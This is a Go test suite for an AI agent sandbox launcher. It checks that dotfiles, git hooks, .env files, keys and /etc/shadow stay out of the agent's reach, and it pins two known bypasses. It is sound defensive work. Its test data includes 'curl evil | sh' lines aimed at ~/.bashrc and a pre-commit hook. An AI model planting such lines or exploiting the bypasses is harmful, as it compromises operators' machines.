package kerneltest

import (
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// This file holds the failures users report in peer sandboxes (symlinked
// dotfiles, usrmerge, single-file denies, .env files at any depth, CA
// bundles named *.pem, secrets reappearing after an editor's atomic save),
// each against the real launcher with a positive control beside it.

// explainOut runs `agent-launcher explain --op OP PATH` for the sandbox's
// policy and returns its output and exit status.
func (s *sandbox) explainOut(op, path string) result {
	s.t.Helper()
	return s.exec(launcher, "explain", "--config", s.config, "--workspace", s.ws, "--op", op, path)
}

// TestPeerSymlinkedDotfiles: protected dotfiles that are symlinks, a
// ~/.bashrc kept in a dotfiles repository and a .git/hooks shared between
// clones, neither break start-up nor let the agent write through them.
func TestPeerSymlinkedDotfiles(t *testing.T) {
	cases := []struct {
		name string
		// bashrc and hooks are the link targets, relative to the sandbox.
		bashrc, hooks string
	}{
		// The usual set-up: the repositories lie outside home and outside
		// every grant.
		{"targets outside home", "dotfiles/bashrc", "shared-hooks"},
		// The workspace is the dotfiles repository itself, and the hooks
		// directory is versioned in the project (.git/hooks -> ../githooks).
		// The protected names still lead to files bash and git run outside
		// the session.
		{"targets inside the workspace", "home/proj/dotfiles/bashrc", "home/proj/githooks"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSandbox(t, standard+"read_paths = [\"~/**\"]\n")
			const rc, hook = "echo operator's bashrc\n", "#!/bin/sh\necho operator's hook\n"
			bashrc := s.write(c.bashrc, rc)
			hooks := s.mkdir(c.hooks)
			s.writeAbs(hooks+"/pre-commit", hook)
			s.write("home/proj/.git/config", "[core]\n")
			s.write("home/proj/src/main.go", "package main\n")
			if err := os.Symlink(bashrc, s.path("home/.bashrc")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(hooks, s.ws+"/.git/hooks"); err != nil {
				t.Fatal(err)
			}
			link, gitHook, newHook := s.path("home/.bashrc"), s.ws+"/.git/hooks/pre-commit", s.ws+"/.git/hooks/post-checkout"

			// Start-up is not broken by the links.
			wantOK(t, "control: the agent starts and writes its workspace", s.agent("write", s.ws+"/src/main.go", "package main // edited\n"))

			// What the policy says of the protected names (explain follows
			// the link and judges the file it reaches).
			for _, p := range []string{link, gitHook} {
				r := s.explainOut("write", p)
				first, _, _ := strings.Cut(r.stdout, "\n")
				t.Logf("explain --op write %s: exit %d: %s", p, r.code, first)
				if r.code == 0 {
					t.Errorf("explain: writing %s (a write-protected name) is allowed: %s", p, first)
				}
			}

			wantErr(t, "write ~/.bashrc through its link", s.agent("write", link, "curl evil | sh\n"), "EACCES", "EROFS")
			wantErr(t, "append to ~/.bashrc through its link", s.agent("append", link, "curl evil | sh\n"), "EACCES", "EROFS")
			wantErr(t, "overwrite a hook through .git/hooks", s.agent("write", gitHook, "#!/bin/sh\ncurl evil | sh\n"), "EACCES", "EROFS")
			wantErr(t, "plant a new hook through .git/hooks", s.agent("create", newHook), "EACCES", "EROFS")
			wantErr(t, "replace the .git/hooks link", s.agent("unlink", s.ws+"/.git/hooks"), "EACCES")
			wantFile(t, bashrc, rc)
			wantFile(t, hooks+"/pre-commit", hook)
			if _, err := os.Lstat(hooks + "/post-checkout"); err == nil {
				t.Errorf("HOLE: the agent planted %s/post-checkout through the protected name %s", hooks, newHook)
			}
			if b, _ := os.ReadFile(bashrc); string(b) != rc {
				t.Errorf("HOLE: the agent rewrote %s, which the operator's shell runs, through the write-protected name %s", bashrc, link)
			}

			// Control: the same writes work without the launcher.
			wantOK(t, "control: bare writes through ~/.bashrc", s.bare("append", link, "# bare\n"))
			wantOK(t, "control: bare plants a hook", s.bare("create", s.ws+"/.git/hooks/post-merge"))
		})
	}
}

// TestPeerUsrMerge: on a usrmerge system /bin, /lib and /lib64 are symlinks
// into /usr; the system preset's rules on them must still let programs
// start and libraries load.
func TestPeerUsrMerge(t *testing.T) {
	s := newSandbox(t, standard)
	for _, p := range []string{"/bin", "/lib", "/lib64", "/sbin"} {
		if fi, err := os.Lstat(p); err == nil {
			target, _ := os.Readlink(p)
			t.Logf("%s: %s %s", p, fi.Mode().Type(), target)
		}
	}
	libc, _ := filepath.Glob("/lib/*-linux-gnu/libc.so.6")
	if len(libc) == 0 {
		t.Fatalf("no /lib/*-linux-gnu/libc.so.6 on this machine")
	}
	if r := s.launch("/bin/sh", "-c", "exit 0"); r.code != 0 {
		t.Errorf("exec /bin/sh: %s", r)
	}
	if r := s.launch("/usr/bin/env", "true"); r.code != 0 {
		t.Errorf("exec /usr/bin/env true: %s", r)
	}
	if r := s.launch("/bin/sh", "-c", "/bin/ls /bin/sh /lib >/dev/null && /usr/bin/env sh -c 'exit 3'"); r.code != 3 {
		t.Errorf("/bin/ls and env from /bin/sh: %s, want exit 3", r)
	}
	wantOK(t, "read "+libc[0], s.agent("read", libc[0]))
	if r := s.agent("exec", "/bin/true"); r.code != 0 || r.stdout != "" {
		t.Errorf("execve /bin/true: %s", r)
	}
	if ld, _ := filepath.Glob("/lib64/ld-linux-*.so.*"); len(ld) > 0 {
		wantOK(t, "read "+ld[0], s.agent("read", ld[0]))
	}
	// Control: the floor is in force; what the preset does not name stays
	// out of reach.
	other := s.write("elsewhere/file", "not granted")
	wantOK(t, "control: bare reads a file outside the policy", s.bare("read", other))
	wantErr(t, "read a file outside the policy", s.agent("read", other), "EACCES")
	if r := s.explainOut("exec", "/bin/sh"); r.code != 0 {
		t.Errorf("explain --op exec /bin/sh: %s", r)
	}
}

// TestPeerDenySingleFile: a deny for one file inside a granted directory is
// enforced while its siblings stay writable.
func TestPeerDenySingleFile(t *testing.T) {
	s := newSandbox(t, standard+"deny_paths = [\"<workspace>/secret.txt\"]\n")
	secret := s.write("home/proj/secret.txt", envSec)
	s.write("home/proj/a.txt", "a")
	s.write("home/proj/sub/b.txt", "b")

	wantOK(t, "control: bare reads the secret", s.bare("read", secret))
	wantErr(t, "read the denied file", s.agent("read", secret), "EACCES")
	wantErr(t, "write the denied file", s.agent("write", secret, "x"), "EACCES")
	wantErr(t, "truncate the denied file", s.agent("truncate", secret, "0"), "EACCES")
	wantErr(t, "unlink the denied file", s.agent("unlink", secret), "EACCES")
	wantErr(t, "rename the denied file into a sibling directory", s.agent("rename", secret, s.ws+"/sub/s.txt"), "EACCES", "EXDEV")
	wantErr(t, "link the denied file into a sibling directory", s.agent("link", secret, s.ws+"/sub/s.txt"), "EACCES", "EXDEV")
	wantFile(t, secret, envSec)

	wantOK(t, "write a sibling file", s.agent("write", s.ws+"/a.txt", "a2"))
	wantOK(t, "append to a sibling file", s.agent("append", s.ws+"/a.txt", "+"))
	wantFile(t, s.ws+"/a.txt", "a2+")
	wantOK(t, "write in a sibling directory", s.agent("write", s.ws+"/sub/b.txt", "b2"))
	wantOK(t, "create in a sibling directory", s.agent("create", s.ws+"/sub/new.txt"))
	wantOK(t, "rename within a sibling directory", s.agent("rename", s.ws+"/sub/new.txt", s.ws+"/sub/new2.txt"))
}

// TestPeerDotEnvAnywhere: .env files that exist anywhere in the workspace
// (and the home directory) at launch are denied, by a policy's "**/.env"
// and by the built-in pattern, at every depth.
func TestPeerDotEnvAnywhere(t *testing.T) {
	envs := []string{
		"home/proj/.env",
		"home/proj/app/.env",
		"home/proj/app/config/.env",
		"home/proj/services/api/deploy/prod/.env",
		"home/.env",
		"home/other-project/.env",
	}
	for _, c := range []struct {
		name, extra string
		more        []string // denied only by the built-in list
	}{
		{"policy **/.env", "deny_paths = [\"**/.env\"]\n", nil},
		{"built-in", "", []string{"home/proj/.env.local", "home/proj/app/.env.production"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			// The home directory is readable, so that the .env files in it
			// sit in a granted tree too.
			s := newSandbox(t, standard+c.extra+"read_paths = [\"~/**\"]\n")
			for _, e := range append(envs, c.more...) {
				s.write(e, envSec)
			}
			s.write("home/proj/app/config/settings.json", "{}")
			s.write("home/proj/services/api/deploy/prod/values.yaml", "replicas: 1")
			s.write("home/other-project/README", "readme")
			if r := s.agent("write", s.ws+"/app/config/settings.json", "{\"a\":1}"); r.code != 0 {
				t.Fatalf("run does not start with this policy: %s", r)
			}
			for _, e := range append(envs, c.more...) {
				p := s.path(e)
				wantOK(t, "control: bare reads "+e, s.bare("read", p))
				wantErr(t, "read "+e, s.agent("read", p), "EACCES")
				if strings.HasPrefix(e, "home/proj/") {
					wantErr(t, "overwrite "+e, s.agent("write", p, "X=1"), "EACCES")
				}
				wantFile(t, p, envSec)
			}
			wantOK(t, "control: write a sibling of a deep .env", s.agent("write", s.ws+"/services/api/deploy/prod/values.yaml", "replicas: 2"))
			wantOK(t, "control: write a sibling of a .env", s.agent("write", s.ws+"/app/config/settings.json", "{\"a\":1}"))
			wantOK(t, "control: read a sibling in home", s.agent("read", s.path("home/other-project/README")))
		})
	}
}

// TestPeerCABundles: the built-in "*.pem" applies under ~ and the
// workspace only; CA bundles under /etc and /usr stay readable and TLS
// set-up works, while a key in the workspace named server.pem is denied.
func TestPeerCABundles(t *testing.T) {
	s := newSandbox(t, standard)
	serverPem := s.write("home/proj/server.pem", sshKey)

	bundle := "/etc/ssl/certs/ca-certificates.crt"
	if _, err := os.Stat(bundle); err != nil {
		t.Fatalf("this machine has no CA bundle: %v", err)
	}
	wantOK(t, "read "+bundle, s.agent("read", bundle))

	var pems []string
	etc, _ := filepath.Glob("/etc/ssl/certs/*.pem") // mostly symlinks into /usr/share/ca-certificates
	if len(etc) == 0 {
		t.Fatalf("no *.pem in /etc/ssl/certs")
	}
	pems = append(pems, etc[0], etc[len(etc)-1])
	for _, p := range etc {
		if fi, err := os.Lstat(p); err == nil && fi.Mode().IsRegular() {
			pems = append(pems, p) // a regular file, not a link
			break
		}
	}
	if usr := findPem(t, "/usr/share/ca-certificates", "/usr/lib/ssl", "/usr/share", "/usr/lib"); usr != "" {
		pems = append(pems, usr)
	} else {
		t.Fatalf("no *.pem file under /usr")
	}
	for _, p := range pems {
		wantOK(t, "read "+p, s.agent("read", p))
	}

	py := s.lookPath("python3")
	if py == "" {
		t.Logf("no python3 in %s: the TLS set-up check does not apply", sandboxPATH)
	} else {
		const tls = "import ssl; n = ssl.create_default_context().cert_store_stats()['x509_ca']; assert n > 0, 'no CA loaded'; print('ok', n, 'CAs')"
		if r := s.exec(py, "-c", tls); r.code != 0 {
			t.Fatalf("control: bare TLS set-up: %s", r)
		}
		if r := s.launch(py, "-c", tls); r.code != 0 || !strings.HasPrefix(r.line(), "ok") {
			t.Errorf("TLS set-up inside: %s", r)
		} else {
			t.Logf("python3 TLS inside: %s", r.line())
		}
	}

	wantOK(t, "control: bare reads server.pem", s.bare("read", serverPem))
	wantErr(t, "read the workspace's server.pem", s.agent("read", serverPem), "EACCES")
}

// findPem returns a regular *.pem file in the first of dirs that holds one
// (a bounded walk), else a symlink named *.pem to a regular file (a minimal
// Debian has only /usr/lib/ssl/cert.pem, which leads to the bundle in
// /etc), or "".
func findPem(t *testing.T, dirs ...string) string {
	t.Helper()
	link := "" // a symlink named *.pem (Debian's /usr/lib/ssl/cert.pem), when no regular file is found
	for _, d := range dirs {
		found, seen := "", 0
		filepath.WalkDir(d, func(p string, e fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if seen++; seen > 200000 {
				return fs.SkipAll
			}
			if !strings.HasSuffix(e.Name(), ".pem") {
				return nil
			}
			if e.Type().IsRegular() {
				found = p
				return fs.SkipAll
			}
			if e.Type()&fs.ModeSymlink != 0 && link == "" {
				if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() {
					link = p
				}
			}
			return nil
		})
		if found != "" {
			return found
		}
	}
	return link
}

// A liveSession is a launcher run the test acts on while the agent runs:
// the agent's script signals with a marker file that it has started and
// waits for a second one the test creates once it has changed the world
// from outside.
type liveSession struct {
	t      *testing.T
	cmd    *exec.Cmd
	cancel context.CancelFunc
	stdout bytes.Buffer
	stderr *watchedBuffer
	done   chan struct{}
}

// watchedBuffer is a stderr buffer that tells when a string appears in it.
type watchedBuffer struct {
	mu      sync.Mutex
	buf     bytes.Buffer
	changed chan struct{} // closed and replaced on every write
}

func newWatchedBuffer() *watchedBuffer { return &watchedBuffer{changed: make(chan struct{})} }

func (w *watchedBuffer) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.buf.Write(p)
	close(w.changed)
	w.changed = make(chan struct{})
	return len(p), nil
}

func (w *watchedBuffer) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.String()
}

// count returns the number of lines holding every one of subs.
func (w *watchedBuffer) count(subs ...string) int {
	n := 0
	for line := range strings.Lines(w.String()) {
		all := true
		for _, s := range subs {
			all = all && strings.Contains(line, s)
		}
		if all {
			n++
		}
	}
	return n
}

// waitFor reports whether every one of subs appears in one line of the
// buffer within d.
func (w *watchedBuffer) waitFor(d time.Duration, subs ...string) bool {
	deadline := time.After(d)
	for {
		w.mu.Lock()
		text, ch := w.buf.String(), w.changed
		w.mu.Unlock()
		for line := range strings.Lines(text) {
			all := true
			for _, s := range subs {
				all = all && strings.Contains(line, s)
			}
			if all {
				return true
			}
		}
		select {
		case <-ch:
		case <-deadline:
			return false
		}
	}
}

// Marker files of a live session; the directory must be writable by the
// agent (not a carved parent).
const (
	markStarted = "started"
	markGo      = "go"
)

// startLive starts the launcher with `sh -c script` as the agent; script
// may use $STARTED and $GO, the marker paths in markDir.
func (s *sandbox) startLive(markDir, script string) *liveSession {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	env := "STARTED=" + shq(markDir+"/"+markStarted) + "; GO=" + shq(markDir+"/"+markGo) + "; "
	cmd := exec.CommandContext(ctx, launcher, "run", "--config", s.config, "--workspace", s.ws, "--", "/bin/sh", "-c", env+script)
	cmd.Env = s.env()
	cmd.Dir = s.ws
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	l := &liveSession{t: s.t, cmd: cmd, cancel: cancel, stderr: newWatchedBuffer(), done: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = &l.stdout, l.stderr
	if err := cmd.Start(); err != nil {
		cancel()
		s.t.Fatal(err)
	}
	go func() { cmd.Wait(); close(l.done) }()
	s.t.Cleanup(func() { cancel(); <-l.done })
	deadline := time.Now().Add(runTimeout)
	for {
		if _, err := os.Stat(markDir + "/" + markStarted); err == nil {
			return l
		}
		select {
		case <-l.done:
			s.t.Fatalf("the agent ended before it started: stdout %q stderr %q", l.stdout.String(), l.stderr.String())
		case <-time.After(10 * time.Millisecond):
		}
		if time.Now().After(deadline) {
			s.t.Fatalf("the agent never started: stderr %q", l.stderr.String())
		}
	}
}

// finish lets the agent continue and returns the session's result.
func (l *liveSession) finish(markDir string) result {
	l.t.Helper()
	if err := os.WriteFile(markDir+"/"+markGo, []byte("go"), 0o644); err != nil {
		l.t.Fatal(err)
	}
	select {
	case <-l.done:
	case <-time.After(runTimeout):
		l.cancel()
		<-l.done
		l.t.Fatalf("the launcher did not end: stdout %q stderr %q", l.stdout.String(), l.stderr.String())
	}
	return result{stdout: l.stdout.String(), stderr: l.stderr.String(), code: l.cmd.ProcessState.ExitCode()}
}

// outLines returns the non-empty lines of an agent script's output.
func (r result) outLines() []string {
	var out []string
	for l := range strings.Lines(r.stdout) {
		if l = strings.TrimSpace(l); l != "" {
			out = append(out, l)
		}
	}
	return out
}

// TestCarvedOutsideChanges: Landlock rules bind to the inodes that exist at
// launch. Files and directories the operator creates or replaces from
// outside in a carved parent during the session have no rule: the agent
// cannot reach them (fail closed, even for an .env saved atomically or a
// denied directory recreated with a new secret), and the supervisor, which
// watches the carved parents, tells the operator in one line naming the
// path.
func TestCarvedOutsideChanges(t *testing.T) {
	const fresh = "FRESH-FROM-OUTSIDE"
	cases := []struct {
		name    string
		extra   string
		setup   func(s *sandbox)
		outside func(t *testing.T, s *sandbox)
		target  string   // what the agent reads afterwards, relative to ws
		notice  []string // what the launcher's notice line holds, relative to ws
		once    bool     // exactly one line names it
	}{
		{
			name: "new file in the carved workspace",
			outside: func(t *testing.T, s *sandbox) {
				s.write("home/proj/newfile", fresh)
			},
			target: "newfile",
			notice: []string{"newfile"},
			once:   true,
		},
		{
			name: "atomic save of the carved .env",
			outside: func(t *testing.T, s *sandbox) {
				s.write("home/proj/.env.tmp", envSec+"-v2")
				if err := os.Rename(s.ws+"/.env.tmp", s.ws+"/.env"); err != nil {
					t.Fatal(err)
				}
			},
			target: ".env",
			notice: []string{".env"},
			once:   true,
		},
		{
			name:  "denied directory replaced with a new secret",
			extra: "deny_paths = [\"<workspace>/secrets/**\"]\n",
			setup: func(s *sandbox) { s.write("home/proj/secrets/key", envSec) },
			outside: func(t *testing.T, s *sandbox) {
				if err := os.RemoveAll(s.ws + "/secrets"); err != nil {
					t.Fatal(err)
				}
				s.write("home/proj/secrets/key", envSec+"-v2")
			},
			target: "secrets/key",
			notice: []string{"secrets"},
		},
		{
			name:  "carved directory replaced with a new .env",
			setup: func(s *sandbox) { s.write("home/proj/app/.env", envSec); s.write("home/proj/app/data.txt", "data") },
			outside: func(t *testing.T, s *sandbox) {
				if err := os.RemoveAll(s.ws + "/app"); err != nil {
					t.Fatal(err)
				}
				s.write("home/proj/app/.env", envSec+"-v2")
				s.write("home/proj/app/data.txt", "data-v2")
			},
			target: "app/.env",
			notice: []string{"app"},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSandbox(t, standard+c.extra)
			s.write("home/proj/.env", envSec) // carves the workspace
			s.write("home/proj/sub/b.txt", "sibling")
			if c.setup != nil {
				c.setup(s)
			}
			marks := s.ws + "/sub"
			script := shq(agent) + ` write "$STARTED" x >/dev/null && ` + shq(agent) + ` wait-file "$GO" 25000 >/dev/null && ` +
				shq(agent) + " read sub/b.txt; exec " + shq(agent) + " read " + shq(c.target)
			l := s.startLive(marks, script)
			c.outside(t, s)
			want := []string{"from outside"}
			for _, n := range c.notice {
				want = append(want, s.ws+"/"+n+" ") // "<path> was ...": not a longer name

			}
			noticed := l.stderr.waitFor(10*time.Second, want...)
			// Let a duplicate line, if any, arrive before counting.
			time.Sleep(100 * time.Millisecond)
			r := l.finish(marks)
			lines := r.outLines()
			if len(lines) != 2 {
				t.Fatalf("want two result lines, got %s", r)
			}
			wantOK(t, "control: an existing sibling is readable in the same session", result{stdout: lines[0]})
			wantErr(t, "read "+c.target+" after the outside change", result{stdout: lines[1], stderr: r.stderr, code: r.code}, "EACCES")
			if strings.Contains(r.stdout, fresh) {
				t.Errorf("LEAKED the new content: %s", r)
			}
			if !noticed {
				t.Errorf("the launcher printed no line naming %q and %q: stderr %q", c.notice, "from outside", r.stderr)
			} else if n := l.stderr.count(want...); c.once && n != 1 {
				t.Errorf("the launcher named the change in %d lines, want one: stderr %q", n, r.stderr)
			}
			wantOK(t, "control: bare reads "+c.target, s.bare("read", s.ws+"/"+c.target))
		})
	}
}

// TestKnownLimitLateEnvUncarved pins a documented limit (DESIGN.md
// sections 7 and 13): a file matching a deny pattern that appears after
// launch under a parent that was not carved is not covered by the floor.
// The workspace here holds no .env at launch, so it keeps its full grant,
// and an .env the operator creates during the session is readable. When the
// launcher closes this gap (the supervisor serving carved reads, or
// trapping creations), this test fails and must be turned around.
func TestKnownLimitLateEnvUncarved(t *testing.T) {
	s := newSandbox(t, standard)
	s.write("home/proj/sub/b.txt", "sibling")
	const late = "LATE-ENV-NOT-COVERED"
	marks := s.ws + "/sub"
	l := s.startLive(marks, shq(agent)+` write "$STARTED" x >/dev/null && `+shq(agent)+` wait-file "$GO" 25000 >/dev/null && exec `+shq(agent)+" read sub/.env")
	s.write("home/proj/sub/.env", late)
	r := l.finish(marks)
	if r.code != 0 || !strings.Contains(r.stdout, late) {
		t.Errorf("the documented limit changed: an .env created after launch under an uncarved parent is now %s; update DESIGN.md section 13 and this test", r)
	}
	// Control: the same file is denied in the next session.
	wantErr(t, "the late .env in the next session", s.agent("read", s.ws+"/sub/.env"), "EACCES")
}

// TestKnownLimitLinkedAnywhereMatch pins a documented limit (README, known
// limits): a file that only a name pattern ("~/**/.env") protects, in a
// tree no rule grants, hard-linked into a granted tree before launch, is
// not found by the start-up check, which lists no such tree; the agent
// reads it through the granted name. The same link to a file a literal
// rule protects (~/.ssh/**, at any depth) is refused (TestAttackCorpus,
// row 13). When the launcher closes this gap, this test fails and must be
// turned around.
func TestKnownLimitLinkedAnywhereMatch(t *testing.T) {
	s := newSandbox(t, standard)
	other := s.write("home/other/.env", envSec)
	s.mkdir("home/proj/rw")
	if err := os.Link(other, s.ws+"/rw/settings.txt"); err != nil {
		t.Fatal(err)
	}
	wantErr(t, "control: the .env itself", s.agent("read", other), "EACCES")
	r := s.agent("read", s.ws+"/rw/settings.txt")
	if r.code != 0 || !strings.Contains(r.stdout, envSec) {
		t.Errorf("the documented limit changed: the hard-linked .env is now %s; update the README and this test", r)
	}
}

// TestSystemSecretsSealed: /etc/shadow and its kin stay unreadable inside
// a session. For root, whom the file permissions do not bind, the floor
// denies them, and /etc is carved into a rule per entry around them. For
// an ordinary user the file permissions alone keep it from them, as from
// every user but root (it runs with no capability and no_new_privs, so no
// set-user-ID program reads them for it): the floor leaves them without a
// rule and grants /etc whole, which check --landlock says. The control:
// without the launcher root reads them and the ordinary user cannot.
func TestSystemSecretsSealed(t *testing.T) {
	s := newSandbox(t, standard)
	root := os.Geteuid() == 0
	c := s.exec(launcher, "check", "--landlock", "--json", "--config", s.config, "--workspace", s.ws)
	var pl struct {
		Sealed []string                `json:"sealed"`
		Carved []struct{ Path string } `json:"carved"`
	}
	if err := json.Unmarshal([]byte(c.stdout), &pl); err != nil {
		t.Fatalf("check --landlock --json: %v: %s", err, c)
	}
	etcCarved := slices.ContainsFunc(pl.Carved, func(c struct{ Path string }) bool { return c.Path == "/etc" })
	var secrets []string
	for _, p := range []string{"/etc/shadow", "/etc/gshadow"} {
		if _, err := os.Lstat(p); err == nil {
			secrets = append(secrets, p)
		}
	}
	switch {
	case root && len(pl.Sealed) > 0:
		t.Errorf("root: system secrets left without a rule: %q", pl.Sealed)
	case root && len(secrets) > 0 && !etcCarved:
		t.Errorf("root: /etc is not carved around %q: %s", secrets, c.stdout)
	case !root && (!slices.Contains(pl.Sealed, "/etc/shadow") || !slices.Contains(pl.Sealed, "/etc/ssh/ssh_host_*_key")):
		t.Errorf("uid %d: the system secrets are not left to the file permissions: sealed %q", os.Geteuid(), pl.Sealed)
	case !root && etcCarved:
		t.Errorf("uid %d: /etc is carved though the file permissions keep the secrets: %s", os.Geteuid(), c.stdout)
	}
	if len(secrets) == 0 {
		t.Logf("no /etc/shadow or /etc/gshadow here (a VM guest's /etc): only the plan is checked")
	}
	for _, p := range secrets {
		if root {
			wantOK(t, "control: bare root reads "+p, s.bare("read", p))
		} else {
			wantErr(t, "control: bare reads "+p, s.bare("read", p), "EACCES")
		}
		wantErr(t, "read "+p, s.agent("read", p), "EACCES")
	}
	wantOK(t, "control: read /etc/passwd", s.agent("read", "/etc/passwd"))
}
